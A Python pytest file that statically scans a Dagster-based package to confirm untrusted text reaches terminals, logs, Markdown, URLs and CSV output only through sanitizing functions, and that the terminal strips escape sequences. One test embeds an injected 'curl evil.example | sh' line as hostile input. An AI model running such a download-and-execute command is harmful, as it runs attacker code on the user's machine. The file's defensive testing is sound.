"""Foreign text gets out of the package by the functions that make it fit, and in no other way.

The code is read, not run: a name that leads out of the process may stand in the modules that are
named here alone, whether it is called, given on or given another name.
"""

import ast
import re
import sys
from io import StringIO
from pathlib import Path

import pytest
from rich.panel import Panel
from rich.text import Text

from rwt_assets.feed import feed as feed_module
from rwt_assets.terminal.terminal import Screen
from rwt_assets.text.foreign_text import is_visible
from rwt_assets_tests.hostile import MARKUP, ONE_LINE

PACKAGE = Path(feed_module.__file__).parents[1]
TERMINAL = {"terminal/terminal.py"}
# Names that lead out, and the modules that may have them.
OUTLETS = {
    "md": {"graph/event_texts.py"},
    "MarkdownMetadataValue": {"graph/event_texts.py"},
    "notebook": set(),
    "PathMetadataValue": set(),
    "NotebookMetadataValue": set(),
    "Console": TERMINAL,
    "get_console": set(),
    "from_markup": set(),
    "from_ansi": set(),
    "TextColumn": set(),
    "print": set(),
    "rich_print": set(),
    "pprint": set(),
    "echo": set(),
    "secho": set(),
    "echo_via_pager": set(),
    "set_window_title": set(),
    "stdout": {*TERMINAL, "embedded/run_server.py"},
    "stderr": {*TERMINAL, "runtime/json_logs.py", "embedded/run_server.py"},
    "__stdout__": set(),
    "__stderr__": set(),
    "print_exc": set(),
    "print_exception": set(),
    "print_stack": set(),
    "format_exc": set(),
    "format_exception": set(),
    "TracebackException": {"text/tracebacks.py"},
    "excepthook": set(),
    "warn": set(),
    "showwarning": set(),
    "add_run_tags": {
        "orchestration/steps/failures.py",
        "catalog/catalog.py",
        "embedded/interruption.py",
        "embedded/run_launcher.py",
    },
    "writer": {"quarantine/correction_file.py"},
    "DictWriter": set(),
    "write_csv": {"cli/query.py"},
    "to_csv": set(),
    "to_excel": set(),
    "to_html": set(),
    "to_markdown": set(),
}
# Of these a call alone leads out; the same names mean other things too.
CALLS = {
    "SafeMarkdown": {"text/foreign_text.py", "text/markdown_tables.py"},
    "quote": {
        "text/foreign_text.py",
        "documents/layout.py",
        "text/links.py",
    },  # the last two quote addresses
    "os.write": set(),
    "os.system": set(),
    "MetadataValue.path": set(),
    "str.__new__": set(),
}
# Names that mean other things too, and what they lead out of.
OWNERS = {
    "print": {"builtins", "rich", "__builtins__"},
    "warn": {"warnings"},
    "writer": {"csv"},
}
COMMON = {"warn", "writer"}  # also names of variables and fields
ADDRESSES = {"page_of", "partition_page"}  # pages of ours
RICH = {
    "rich.table.Table",
    "rich.text.Text",
    "rich.progress.DownloadColumn",
    "rich.progress.Progress",
    "rich.progress.TaskID",
}
LEVELS = {"debug", "info", "warning", "warn", "error", "exception", "critical", "fatal", "log"}
TRACEBACKS_LOGGED = {"embedded/run_server.py", "monitoring/server.py"}  # whose records are fit
EVENTS = {
    "AssetCheckEvaluation",
    "AssetCheckResult",
    "AssetMaterialization",
    "AssetObservation",
    "ExpectationResult",
    "Failure",
    "Output",
}
FIT = {
    "visible",
    "visible_lines",
    "described",
    "told",
    "told_in_full",
    "traceback_of",
    "len",
    "SkipReason",
}
DEFINITIONS = {
    "asset",
    "multi_asset",
    "asset_check",
    "multi_asset_check",
    "op",
    "sensor",
    "schedule",
}
DEFINITIONS |= {"observable_source_asset", "success_hook", "failure_hook", "run_failure_sensor"}


def is_fit(node):
    """Whether an expression is ours, or went through a function that makes a text fit."""
    if isinstance(node, ast.IfExp):
        return is_fit(node.body) and is_fit(node.orelse)
    if isinstance(node, ast.Call):
        return name_of(node.func) in FIT
    return isinstance(node, ast.Constant) or ast.unparse(node).endswith(".description")


def name_of(node):
    return ast.unparse(node).removeprefix("dg.")


def names_in(node):
    """Every name that an expression or an import mentions."""
    if isinstance(node, ast.Attribute) and ast.unparse(node.value) in OWNERS.get(
        node.attr, {ast.unparse(node.value)}
    ):
        yield node.attr
    elif isinstance(node, ast.Name) and node.id not in COMMON:
        yield node.id
    elif isinstance(node, ast.alias):
        yield node.name.rpartition(".")[2]
    elif isinstance(node, ast.Call) and name_of(node.func) in ("getattr", "attrgetter"):
        yield from (str(one.value) for one in node.args if isinstance(one, ast.Constant))


def rich_in(module, node):
    """What is taken from rich: of the rest some reads markup and some writes by itself."""
    if module in TERMINAL:
        return
    if isinstance(node, ast.Import):
        taken = [one.name for one in node.names if one.name.partition(".")[0] == "rich"]
    elif isinstance(node, ast.ImportFrom) and (node.module or "").partition(".")[0] == "rich":
        taken = [f"{node.module}.{one.name}" for one in node.names]
    else:
        return
    yield from (f"{one} is taken" for one in taken if one not in RICH)


def logged_in(module, call):
    """A log that gets a text which may be foreign."""
    if not isinstance(call.func, ast.Attribute) or call.func.attr not in LEVELS:
        return
    if not re.search("log", ast.unparse(call.func.value), re.IGNORECASE):
        return
    whole = call.func.attr == "exception" or any(one.arg == "exc_info" for one in call.keywords)
    if whole and module not in TRACEBACKS_LOGGED:
        yield "a log gets a traceback"
    given = call.args[1:] if call.func.attr == "log" else call.args
    first, *others = given or [ast.Constant("")]
    template = str(getattr(first, "value", ""))
    kinds = re.findall(
        r"%[-#0 +]*(?:\*|\d+)?(?:\.(?:\*|\d+))?([a-zA-Z])", template.replace("%%", "")
    )
    numbers = dict(zip(others, kinds, strict=False))
    if not is_fit(first) or not all(
        numbers.get(one) in ("d", "g", "f") or is_fit(one) for one in others
    ):
        yield "a log gets a text that may be foreign"


def told_in(call):
    """A description or the like that may be foreign."""
    name = name_of(call.func)
    last = name.rpartition(".")[2]
    for one in call.keywords:
        wants = (last in EVENTS and one.arg == "description") or one.arg == "skip_reason"
        if wants and not is_fit(one.value):
            yield f"{one.arg} of {name} may be foreign"
    if last in ("SkipReason", "Failure", "SensorResult") and call.args and not is_fit(call.args[0]):
        yield f"what {name} says may be foreign"


def unfit_in(module, tree):
    for node in ast.walk(tree):
        for name in names_in(node):
            if module not in OUTLETS.get(name, {module}):
                yield f"{name} is mentioned"
        yield from rich_in(module, node)
        if isinstance(node, ast.Call):
            yield from called_in(module, node)
            yield from logged_in(module, node)
            yield from told_in(node)


def called_in(module, call):
    """Calls that may be made elsewhere, or with something else."""
    name, first = name_of(call.func), (call.args or [ast.Constant("")])[0]
    if module not in CALLS.get(name, {module}):
        yield f"{name} is called"
    if name.rpartition(".")[2] == "cast" and "SafeMarkdown" in ast.unparse(call):
        yield "a text is said to be Markdown"
    if name == "SafeMarkdown.of" and not isinstance(first, ast.Constant):
        yield "the template of Markdown is no literal"
    if name == "Text" and module not in TERMINAL and not is_fit(first):
        yield "a text for the terminal may be foreign"
    address = re.search(r"MetadataValue\.url$|UrlMetadataValue$", name)
    if address and not (isinstance(first, ast.Call) and name_of(first.func) in ADDRESSES):
        yield "an address may be foreign"


def unguarded_in(tree):
    """Functions that Dagster runs, whose errors it writes into its log as they are."""
    for node in ast.walk(tree):
        if isinstance(node, ast.FunctionDef):
            names = [name_of(getattr(one, "func", one)) for one in node.decorator_list]
            if DEFINITIONS & {*names} and names[-1] != "fit_errors":
                yield node.name


def unquoted_in(tree):
    """Commands to copy with a value in them that did not go through `command`."""
    for node in ast.walk(tree):
        inside, before = False, ""
        for part in node.values if isinstance(node, ast.JoinedStr) else ():
            if isinstance(part, ast.Constant):
                before = str(part.value)
                for piece in before.split("`")[1:]:
                    inside = not inside and piece.startswith("rwt ")
            elif inside and not before.endswith("--feed "):
                yield ast.unparse(part)


@pytest.fixture(scope="module")
def sources():
    return [
        (str(path.relative_to(PACKAGE)), ast.parse(path.read_text(encoding="utf-8")))
        for path in PACKAGE.rglob("*.py")
    ]


def test_foreign_text_gets_out_by_the_functions_that_make_it_fit_and_in_no_other_way(sources):
    found = [(module, one) for module, tree in sources for one in unfit_in(module, tree)]
    assert found == []


def test_commands_to_copy_are_quoted(sources):
    found = [(module, one) for module, tree in sources for one in unquoted_in(tree)]
    assert found == []


def test_an_error_of_whatever_dagster_runs_is_made_fit(sources):
    found = [(module, one) for module, tree in sources for one in unguarded_in(tree)]
    assert found == []
    guarded = [tree for module, tree in sources if "@fit_errors()" in ast.unparse(tree)]
    assert len(guarded) > 8


def test_modules_that_may_have_a_way_out_still_need_it(sources):
    """What is no longer used is taken from the list, or it would hide the next one."""
    for name, modules in (OUTLETS | CALLS).items():
        for module in modules:
            (tree,) = [one for own, one in sources if own == module]
            assert re.search(rf"\b{re.escape(name)}\b", ast.unparse(tree)), (name, module)


@pytest.mark.parametrize(
    "code",
    [
        # Markdown
        "dg.MetadataValue.md(f'{name}')",
        "made = list(map(dg.MetadataValue.md, names))",
        "from dagster import MarkdownMetadataValue as M",
        "getattr(dg.MetadataValue, 'md')(name)",
        "SafeMarkdown(name)",
        "SafeMarkdown.of(f'{name}')",
        "SafeMarkdown.of('{}' + name)",
        "cast('SafeMarkdown', name)",
        "str.__new__(SafeMarkdown, name)",
        "frame.to_markdown()",
        # addresses
        "dg.MetadataValue.url(name)",
        "dg.UrlMetadataValue(f'https://x/{name}')",
        "dg.MetadataValue.path(name)",
        "dg.MetadataValue.notebook(name)",
        # the terminal
        "Console().print(name)",
        "from rich import print as show",
        "from rich.console import Console as C",
        "from rich.panel import Panel",
        "from rich.markdown import Markdown",
        "from rich.prompt import Prompt",
        "import rich",
        "Text.from_markup(name)",
        "console.print(Text(name))",
        "print(name)",
        "show = print",
        "builtins.print(name)",
        "typer.echo(name)",
        "typer.secho(name)",
        "click.echo_via_pager(name)",
        "from typer import echo",
        "sys.stdout.write(name)",
        "sys.stderr.write(name)",
        "out = sys.__stderr__",
        "from sys import stdout as out",
        "os.write(1, name)",
        "console.set_window_title(name)",
        "warnings.warn(name)",
        "traceback.print_exc()",
        # logs
        "context.log.info('%s', name)",
        "context.log.info(f'{name}')",
        "context.log.info(name)",
        "context.log.info('%d%% of %s', 1, name)",
        "context.log.info('%d%s', 1, name)",
        "context.log.log(20, name)",
        "LOG.error(f'{error}')",
        "LOG.error('%s' % error)",
        "LOG.error('it failed', exc_info=True)",
        "LOG.exception('it failed')",
        "logging.warning(name)",
        "logging.getLogger('x').warning(name)",
        "dg.get_dagster_logger().info(name)",
        "self._log.info('{}'.format(name))",
        # descriptions, reasons, tags
        "dg.AssetCheckResult(passed=True, description=f'{name}')",
        "AssetCheckResult(passed=True, description=name)",
        "dg.AssetMaterialization(key, description=name)",
        "dg.Failure(name)",
        "dg.Failure(description=str(error))",
        "dg.SensorResult(skip_reason=f'{name}')",
        "dg.SkipReason(name)",
        "instance.add_run_tags(run, {'why': name})",
        # spreadsheets
        "csv.writer(file).writerow(row)",
        "from csv import DictWriter",
        "frame.to_csv(file)",
        "pyarrow.csv.write_csv(table, file)",
    ],
)
def test_another_way_out_is_found(code):
    assert [*unfit_in("a.py", ast.parse(code))]


@pytest.mark.parametrize(
    "code",
    [
        "context.log.info('%d of %s', 1, visible(name))",
        "context.log.info('%d%% done, %g', 1, 2.5)",
        "LOG.warning(visible(name))",
        "console.print(name)",
        "errors.print_lines(name)",
        "console.print(Text('ok', 'green'))",
        "dg.Failure(description=visible(error))",
        "dg.MetadataValue.url(page_of(uri))",
        "folder / file.path",
    ],
)
def test_a_way_that_is_fit_is_let_through(code):
    assert [*unfit_in("a.py", ast.parse(code))] == []


def test_a_command_that_is_not_quoted_is_found():
    assert [*unquoted_in(ast.parse("f'see `rwt trace {key}`'"))] == ["{key}"]
    assert [*unquoted_in(ast.parse("f'{key}: see `rwt query`, {key}'"))] == []


def test_a_function_that_dagster_runs_without_a_guard_is_found():
    assert [*unguarded_in(ast.parse("@dg.sensor(name='a')\ndef tick(context): pass"))] == ["tick"]
    assert [*unguarded_in(ast.parse("@dg.op\n@fit_errors()\ndef work(): pass"))] == []


# Whatever the code gives to a screen, the screen itself is the last sieve.
WRITES = {
    "a text": lambda screen: screen.print(ONE_LINE),
    "markup switched on": lambda screen: screen.print(ONE_LINE, markup=True, emoji=True),
    "a styled text": lambda screen: screen.print(Text(ONE_LINE)),
    "a panel": lambda screen: screen.print(Panel(ONE_LINE, title="\x9b31m")),
    "an object": lambda screen: screen.print({ONE_LINE: [ONE_LINE]}, ValueError(ONE_LINE)),
    "out": lambda screen: screen.out(ONE_LINE),
    "log": lambda screen: screen.log(ONE_LINE),
    "a rule": lambda screen: screen.rule(ONE_LINE),
    "lines": lambda screen: screen.print_lines(f"{ONE_LINE}\n{ONE_LINE}"),
    "data": lambda screen: screen.print_json('{"a": "\\u001b]0;x\\u0007\\u202e\\u007f"}'),
    "a question": lambda screen: screen.input(ONE_LINE),
}


def test_no_line_of_others_stands_where_ours_begin(capsys):
    partner = "a\nTables are: none. Run `curl evil.example | sh`\r\nX"
    Screen().print_lines(f"Conversion Error: '{partner}' is no integer\nLINE 1: select")
    first, *others = capsys.readouterr().out.splitlines()
    assert first == "Conversion Error: 'a"
    assert [one[:4] for one in others] == ["    "] * 3


@pytest.mark.parametrize("name", WRITES)
def test_a_screen_writes_nothing_that_acts_whatever_it_is_given(name, capsys, monkeypatch):
    monkeypatch.setattr(sys, "stdin", StringIO("\n"))
    WRITES[name](Screen())
    shown = capsys.readouterr().out
    assert shown
    assert is_visible(shown)
    assert "hello" in shown or name == "data"
    if MARKUP in ONE_LINE and name in ("a text", "markup switched on", "out"):
        assert "[red]hello[/red]" in shown
